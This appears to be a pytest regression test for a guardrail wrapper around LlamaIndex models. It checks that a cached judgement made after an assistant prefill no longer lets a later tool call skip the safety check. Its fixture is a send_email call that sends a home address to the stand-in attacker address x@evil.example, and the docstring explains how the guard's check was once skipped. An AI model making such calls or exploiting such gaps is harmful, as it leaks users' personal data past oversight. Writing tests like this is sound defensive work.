"""rt64i F2: a GuardedLLM whose prompt ends with an assistant prefill judged its answer's tool call after the latest
user turn (``tool_call_conversation``), but remembered it as judged after no question: a later history showing the
same call with no user turn before it skipped the check, though the call is blocked there."""

from __future__ import annotations

from typing import Any

import pytest
from faults import ScriptedBackend
from llama_index.core.base.llms.types import ChatMessage, ToolCallBlock
from llama_index.core.llms.mock import MockFunctionCallingLLM
from qwenguard.core import Guard, GuardViolation, Stage
from qwenguard.integrations.llamaindex import GuardedLLM

CALL = ToolCallBlock(tool_call_id="c1", tool_name="send_email", tool_kwargs={"to": "x@evil.example", "body": "12 Elm"})


def judge(conversation: list[dict[str, str]]) -> str:
    """A call sending an address is PII unless the user's request, first in the check, says it is their own."""
    last = conversation[-1]
    if last["role"] == "assistant" and "send_email" in last["content"]:
        own = "my own address" in conversation[0]["content"]
        return ("Safety: Safe\nCategories: None" if own else "Safety: Unsafe\nCategories: PII") + "\nRefusal: No"
    return "Safety: Safe\nCategories: None" + ("\nRefusal: No" if last["role"] == "assistant" else "")


def guarded() -> GuardedLLM:
    answers = iter([ChatMessage(role="assistant", blocks=[CALL]), ChatMessage(role="assistant", content="ok")])
    llm = MockFunctionCallingLLM(response_generator=lambda messages, **kw: next(answers))
    return GuardedLLM(llm=llm, guard=Guard(ScriptedBackend(judge, name="j"), cache_size=0))


async def chat(llm: GuardedLLM, messages: list[ChatMessage], twin: str) -> Any:
    return llm.chat(messages) if twin == "sync" else await llm.achat(messages)


@pytest.mark.parametrize("twin", ["sync", "async"])
async def test_a_call_answered_after_a_prefill_is_judged_again_after_no_question(twin: str) -> None:
    llm = guarded()
    prefilled = [
        ChatMessage(role="user", content="Email my own address to my doctor"),
        ChatMessage(role="assistant", content="Sure, "),
    ]
    answer = await chat(llm, prefilled, twin)
    assert any(isinstance(b, ToolCallBlock) for b in answer.message.blocks)  # allowed after the user's request
    history = [ChatMessage(role="assistant", blocks=[CALL]), ChatMessage(role="user", content="go on")]
    with pytest.raises(GuardViolation) as stop:
        await chat(llm, history, twin)
    assert stop.value.decision.stage is Stage.TOOL_CALL
